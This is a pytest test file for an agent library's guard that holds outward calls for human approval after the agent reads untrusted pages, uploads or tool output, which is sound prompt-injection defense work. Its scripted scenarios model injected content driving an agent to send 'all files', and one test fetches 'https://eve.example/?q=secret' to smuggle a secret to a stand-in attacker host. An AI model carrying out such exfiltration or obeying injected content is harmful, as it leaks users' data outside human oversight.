"""Calls that act outside of the project, after the model has read untrusted content."""

from __future__ import annotations

from collections.abc import Sequence
from pathlib import Path
from typing import Any

import pytest
from pydantic_ai import (
    Agent,
    DeferredToolRequests,
    DeferredToolResults,
    ExternalToolset,
    ToolDefinition,
    ToolDenied,
    ToolReturn,
    UserError,
)
from pydantic_ai.capabilities import NativeTool
from pydantic_ai.exceptions import ModelRetry, ToolFailed
from pydantic_ai.messages import ModelMessage, NativeToolReturnPart, TextPart
from pydantic_ai.native_tools import AbstractNativeTool, MCPServerTool, WebFetchTool, WebSearchTool

from pydantic_deep import (
    ApprovalRule,
    Approve,
    DeepAgentDeps,
    Edit,
    LocalBackend,
    UntrustedContent,
    answer_approvals,
    create_deep_agent,
)
from pydantic_deep.approvals import Approvals, Respond
from pydantic_deep.skills import Skill
from pydantic_deep.summarization import Messages, Summarization
from pydantic_deep.testing import ScriptedModel, Step, call

from .conftest import PAGE, READ, SEND, Outside, Shell, marks, notice_of, pending, run, tools_of

pytestmark = pytest.mark.anyio


async def test_outward_call_after_untrusted_content_waits_for_a_person(outside: Outside) -> None:
    result = await run(outside.agent(READ, SEND))
    assert (tools_of(result), outside.sent) == (['send'], [])
    assert notice_of(result) == 'Untrusted content was read before this call, which may obey it: fetch_page.'
    assert marks(result.all_messages()) == [['fetch_page']]


async def test_outward_call_before_untrusted_content_runs(outside: Outside) -> None:
    result = await run(outside.agent(call('clock'), SEND, 'done'))
    assert (result.output, outside.sent) == ('done', ['all files'])


async def test_calls_of_one_response_were_decided_before_its_results(outside: Outside) -> None:
    result = await run(outside.agent([READ, SEND], 'done'))
    assert (result.output, outside.sent) == ('done', ['all files'])


async def test_content_of_earlier_turns_counts(outside: Outside) -> None:
    agent = outside.agent(READ, 'a page', SEND)
    first = await run(agent)
    result = await run(agent, message_history=first.all_messages())
    assert (tools_of(result), outside.sent) == (['send'], [])


async def test_approval_runs_one_call_and_leaves_the_mark(outside: Outside) -> None:
    agent = outside.agent(READ, SEND, SEND)
    first = await run(agent)
    answers = answer_approvals(first.output, {pending(first)[0].id: Approve()})
    second = await agent.run(
        message_history=first.all_messages(), deferred_tool_results=answers, deps=DeepAgentDeps(backend=Shell())
    )
    assert (tools_of(second), outside.sent) == (['send'], ['all files'])


async def test_edited_arguments_are_those_of_the_person(outside: Outside) -> None:
    agent = outside.agent(READ, SEND, 'done')
    first = await run(agent)
    answers = answer_approvals(first.output, {pending(first)[0].id: Edit({'text': 'nothing'})})
    result = await agent.run(message_history=first.all_messages(), deferred_tool_results=answers, deps=DeepAgentDeps())
    assert (result.output, outside.sent) == ('done', ['nothing'])


async def test_denied_call_does_not_run(outside: Outside) -> None:
    agent = outside.agent(READ, SEND, 'done')
    first = await run(agent)
    answers = DeferredToolResults(approvals={pending(first)[0].tool_call_id: ToolDenied('No.')})
    result = await agent.run(message_history=first.all_messages(), deferred_tool_results=answers, deps=DeepAgentDeps())
    assert (result.output, outside.sent) == ('done', [])


async def test_answer_of_a_person_is_trusted(outside: Outside) -> None:
    """The result of `ask` would be untrusted, but a person gives it."""

    @outside.tools.tool_plain
    async def ask() -> str:
        raise AssertionError

    agent = outside.agent(call('ask'), SEND, 'done', interrupt_on={'ask': True})
    first = await run(agent)
    answers = answer_approvals(first.output, {pending(first)[0].id: Respond('I have sent it.')})
    result = await agent.run(message_history=first.all_messages(), deferred_tool_results=answers, deps=DeepAgentDeps())
    assert (tools_of(result), outside.sent) == ([], ['all files'])


@pytest.mark.parametrize('rule', [False, ApprovalRule(allow=('git *',)), ApprovalRule(when=lambda args: False)])
async def test_rules_that_allow_a_command_do_not_apply_any_more(outside: Outside, rule: Any) -> None:
    files = Shell()
    agent = outside.agent(READ, call('execute', command='git status'), interrupt_on={'execute': rule})
    result = await run(agent, DeepAgentDeps(backend=files))
    assert (tools_of(result), files.lines) == (['execute'], [])


async def test_rules_that_deny_a_command_still_apply(outside: Outside) -> None:
    deny = {'execute': ApprovalRule(deny=('git *',))}
    result = await run(outside.agent(READ, call('execute', command='git push'), 'done', interrupt_on=deny))
    assert result.output == 'done'


async def test_grant_of_a_skill_does_not_apply_any_more(outside: Outside) -> None:
    skill = Skill(
        name='git', description='Git.', body='Use git.', grants=True, allowed_tools=('execute(git status *)',)
    )
    files = Shell()
    status = call('execute', command='git status')
    options: dict[str, Any] = {
        'skills': [skill],
        'interrupt_on': {'execute': True},
        'guard': UntrustedContent(trusted_tools=('execute',)),
    }
    agent = outside.agent(call('load_skill', name='git'), status, READ, status, **options)
    result = await run(agent, DeepAgentDeps(backend=files))
    assert (tools_of(result), files.lines) == (['execute'], ['git status'])


async def test_results_of_commands_are_untrusted_unless_they_are_named(outside: Outside) -> None:
    steps = [call('execute', command='make'), SEND]
    assert tools_of(await run(outside.agent(*steps))) == ['send']
    result = await run(outside.agent(*steps, 'done', guard=UntrustedContent(trusted_tools=('execute',))))
    assert (result.output, outside.sent) == ('done', ['all files'])


@pytest.mark.parametrize(
    'step',
    [
        call('read_file', path='a.txt'),
        call('grep', pattern='a'),
        call('ls'),
        call('glob', pattern='*'),
        call('write_file', path='b.txt', content='b'),
        call('edit_file', path='a.txt', old_string='a', new_string='b'),
        call('write_todos', todos=[]),
        call('search_history', query='https://a.example'),
        call('clock'),
        call('fetch_page', topic='moons'),
    ],
)
async def test_work_inside_of_the_project_remains_free(outside: Outside, step: Step) -> None:
    files = Shell()
    await files.write_bytes('/a.txt', b'a')
    result = await run(outside.agent(READ, step, 'done'), DeepAgentDeps(backend=files))
    assert result.output == 'done'


async def test_request_for_a_url_can_send_data(outside: Outside) -> None:
    result = await run(outside.agent(READ, call('fetch_page', url='https://eve.example/?q=secret')))
    assert tools_of(result) == ['fetch_page']


@pytest.mark.parametrize(
    ('step', 'is_untrusted'),
    [
        (call('read_file', path='src/a.txt'), False),
        (call('read_file', path='notes.txt'), True),
        (call('read_file', path='src/../notes.txt'), True),
        (call('read_file', path='src/link.txt'), True),
        (call('edit_file', path='notes.txt', old_string='b', new_string='c'), True),
        (call('read_file', path='missing.txt'), True),
        (call('grep', pattern='absent', path='src'), False),
        (call('grep', pattern='a', path='src', glob='a.*'), False),
        (call('grep', pattern='a', path='src'), True),  # src/link.txt matches
        (call('grep', pattern='(', path='src'), False),
        (call('grep', pattern='a'), True),
    ],
)
async def test_files_outside_of_trusted_paths_are_untrusted(
    outside: Outside, tmp_path: Path, step: Step, is_untrusted: bool
) -> None:
    files = LocalBackend(tmp_path)
    await files.write_bytes('/src/a.txt', b'a')
    await files.write_bytes('/notes.txt', b'a')
    (tmp_path / 'src' / 'link.txt').symlink_to('../notes.txt')
    agent = outside.agent(step, SEND, 'done', guard=UntrustedContent(trusted_paths=('src',)))
    result = await run(agent, DeepAgentDeps(backend=files))
    assert bool(pending(result)) is is_untrusted


@pytest.mark.parametrize(
    ('step', 'paths', 'is_untrusted'),
    [
        (call('read_file', path='uploads/mail.txt'), ('.',), True),
        (call('read_file', path='uploads/mail.txt'), ('.', 'uploads'), False),
        (call('grep', pattern='Dear'), ('.',), True),
        (call('grep', pattern='Dear'), ('.', 'uploads'), False),
        (call('grep', pattern='nothing'), ('.',), False),
        (call('ls'), ('.',), False),
        (call('ls', path='uploads'), ('.',), True),
        (call('write_file', path='uploads/mail.txt', content=''), ('.',), False),
    ],
)
async def test_uploads_are_untrusted_unless_they_are_named(
    outside: Outside, step: Step, paths: Sequence[str], is_untrusted: bool
) -> None:
    deps = DeepAgentDeps(backend=Shell())
    await deps.upload('mail.txt', b'Dear agent')
    result = await run(outside.agent(step, SEND, 'done', guard=UntrustedContent(trusted_paths=paths)), deps)
    assert bool(pending(result)) is is_untrusted


async def test_notice_names_the_file(outside: Outside) -> None:
    deps = DeepAgentDeps(backend=Shell())
    await deps.upload('mail.txt', b'Dear agent')
    result = await run(outside.agent(call('read_file', path='uploads/mail.txt'), SEND), deps)
    assert notice_of(result).endswith(': read_file /uploads/mail.txt.')


async def test_write_outside_of_trusted_paths_waits(outside: Outside) -> None:
    write = call('write_file', path='other.txt', content='')
    inside = call('write_file', path='src/a.txt', content='')
    result = await run(outside.agent(READ, inside, write, guard=UntrustedContent(trusted_paths=('src',))))
    assert [approval.arguments['path'] for approval in pending(result)] == ['other.txt']


async def test_named_file_tool_is_trusted_everywhere(outside: Outside) -> None:
    guard = UntrustedContent(trusted_paths=(), trusted_tools=('ls',))
    result = await run(outside.agent(call('ls'), SEND, 'done', guard=guard))
    assert result.output == 'done'


@pytest.mark.parametrize('error', [ToolFailed(PAGE), ModelRetry(PAGE), RuntimeError(PAGE)])
async def test_failures_of_untrusted_tools_are_untrusted(outside: Outside, error: Exception) -> None:
    @outside.tools.tool_plain
    async def fail() -> str:
        raise error

    result = await run(outside.agent(call('fail'), SEND))
    assert (tools_of(result), outside.sent) == (['send'], [])


async def test_failures_of_file_tools_are_marked(outside: Outside) -> None:
    deps = DeepAgentDeps(backend=Shell())
    await deps.upload('mail.txt', b'Dear agent')
    edit = call('edit_file', path='uploads/mail.txt', old_string='Deer agent', new_string='')
    result = await run(outside.agent(edit, SEND), deps)
    assert marks(result.all_messages()) == [['edit_file /uploads/mail.txt']]


async def test_invalid_arguments_are_not_untrusted(outside: Outside) -> None:
    result = await run(outside.agent(call('send'), SEND, 'done'))
    assert (result.output, outside.sent) == ('done', ['all files'])


async def test_a_tool_can_mark_one_result(outside: Outside) -> None:
    @outside.tools.tool_plain(metadata={'trusted': True})
    async def inbox(spam: bool) -> ToolReturn[str]:
        return ToolReturn('mail', metadata={'untrusted': spam, 'count': 1})

    assert tools_of(await run(outside.agent(call('inbox', spam=True), SEND))) == ['send']
    assert tools_of(await run(outside.agent(call('inbox', spam=False), SEND, 'done'))) == []


async def test_metadata_of_results_is_preserved(outside: Outside) -> None:
    @outside.tools.tool_plain
    async def inbox() -> ToolReturn[str]:
        return ToolReturn('mail', metadata={'count': 1})

    @outside.tools.tool_plain
    async def outbox() -> ToolReturn[str]:
        return ToolReturn('mail', metadata=['own'])

    result = await run(outside.agent([call('inbox'), call('outbox')], SEND))
    (*_, returned, _) = result.all_messages()
    assert [part.metadata for part in returned.parts] == [{'count': 1, 'untrusted': ['inbox']}, ['own']]


async def test_history_without_marks_counts_by_its_tools(outside: Outside) -> None:
    """The agent had no such capability when the page was read."""
    bare = create_deep_agent(ScriptedModel(READ, 'a page'), toolsets=[outside.tools])
    first = await run(bare)
    assert marks(first.all_messages()) == [None]
    assert tools_of(await run(outside.agent(SEND), message_history=first.all_messages())) == ['send']


async def test_marks_count_without_the_tool(outside: Outside) -> None:
    first = await run(outside.agent(READ, 'a page'))
    other = Outside()
    other.tools.tools.pop('fetch_page')
    assert tools_of(await run(other.agent(SEND), message_history=first.all_messages())) == ['send']


async def test_results_of_native_tools_are_untrusted(outside: Outside) -> None:
    found = NativeToolReturnPart(tool_name='web_search', content=PAGE, tool_call_id='n', provider_name='p')
    assert tools_of(await run(outside.agent([found, SEND]))) == ['send']
    first = await run(outside.agent([found, TextPart('found')]))
    assert tools_of(await run(outside.agent(SEND), message_history=first.all_messages())) == ['send']


async def test_native_tools_that_can_send_are_refused() -> None:
    for tool, kind in ((WebFetchTool(), 'web_fetch'), (MCPServerTool(id='m', url='https://m.example'), 'mcp_server')):
        agent = _native(tool)
        with pytest.raises(UserError, match=f"native tool '{kind}', which runs at the provider"):
            await agent.run('go')
    assert (await _native(WebSearchTool()).run('go')).output == 'done'


def _native(tool: AbstractNativeTool) -> Agent[Any, Any]:
    model = ScriptedModel('done', profile={'supported_native_tools': frozenset([type(tool)])})
    output: Any = [str, DeferredToolRequests]
    return Agent(model, output_type=output, capabilities=[Approvals(), UntrustedContent(), NativeTool(tool)])


async def test_agent_that_cannot_pause_is_refused(outside: Outside) -> None:
    with pytest.raises(UserError, match='requires approvals, and this agent cannot pause'):
        await run(outside.agent('done', interrupt_on=None))


def test_options_are_lists() -> None:
    with pytest.raises(TypeError, match=r"`trusted_paths` is 'src'. Pass a list: `\['src'\]`."):
        UntrustedContent(trusted_paths='src')
    with pytest.raises(TypeError, match='`trusted_tools` is'):
        UntrustedContent(trusted_tools='execute')


async def test_works_without_files() -> None:
    outside = Outside()
    output: Any = [str, DeferredToolRequests]
    agent = Agent(
        ScriptedModel(READ, SEND),
        output_type=output,
        toolsets=[outside.tools],
        capabilities=[Approvals(), UntrustedContent()],
    )
    assert tools_of(await agent.run('go')) == ['send']


async def test_write_with_unknown_files_waits(outside: Outside) -> None:
    @outside.tools.tool_plain(metadata={'effect': 'write'})
    async def save() -> str:
        raise AssertionError

    assert tools_of(await run(outside.agent(READ, call('save')))) == ['save']


async def test_results_of_external_tools_are_untrusted(outside: Outside) -> None:
    browser = ExternalToolset[Any]([ToolDefinition(name='browse')])
    agent = outside.agent(call('browse'), SEND)
    first = await run(agent, toolsets=[browser])
    results = DeferredToolResults(calls={first.output.calls[0].tool_call_id: PAGE})
    second = await agent.run(
        message_history=first.all_messages(),
        deferred_tool_results=results,
        deps=DeepAgentDeps(),
        toolsets=[browser],
    )
    assert (tools_of(second), outside.sent) == (['send'], [])


async def test_streamed_run_pauses_too(outside: Outside) -> None:
    async with outside.agent(READ, SEND).run_stream('go', deps=DeepAgentDeps(backend=Shell())) as stream:
        await stream.get_output()
    assert outside.sent == []
    events: list[object] = []

    async def collect(ctx: Any, stream: Any) -> None:
        events.extend([event async for event in stream])

    assert tools_of(await run(outside.agent(READ, SEND), event_stream_handler=collect)) == ['send']


async def test_requests_are_unchanged(outside: Outside) -> None:
    """The model receives the same messages, instructions and tools as without the capability."""
    seen: list[list[Any]] = []
    for capabilities in ([], [UntrustedContent()]):
        model = ScriptedModel(READ, call('ls'), 'done')
        agent = create_deep_agent(model, toolsets=[outside.tools], capabilities=capabilities, interrupt_on={})
        await run(agent)
        seen.append(
            [
                (
                    request.instructions,
                    [(tool.name, tool.description, tool.parameters_json_schema) for tool in request.tools],
                    [[getattr(part, 'content', None) for part in message.parts] for message in request.messages],
                )
                for request in model.requests
            ]
        )
    assert seen[0] == seen[1]


async def test_summary_keeps_the_mark(outside: Outside) -> None:
    async def summarize(messages: Sequence[ModelMessage]) -> str:
        return 'A page was read.'

    short = Summarization(trigger=Messages(4), keep=Messages(2), summarizer=summarize)
    steps = [READ, *[call('clock')] * 8, SEND]
    agent = outside.agent(*steps, capabilities=[short], loop_detection=False)
    result = await run(agent)
    assert ['fetch_page'] not in marks(result.all_messages())
    assert (tools_of(result), outside.sent) == (['send'], [])
    assert notice_of(result).endswith(': fetch_page.')
    again = await run(outside.agent(SEND), message_history=_answered(result.all_messages()))
    assert tools_of(again) == ['send']


def _answered(messages: list[ModelMessage]) -> list[ModelMessage]:
    """Return messages without the pending call."""
    return messages[:-1]
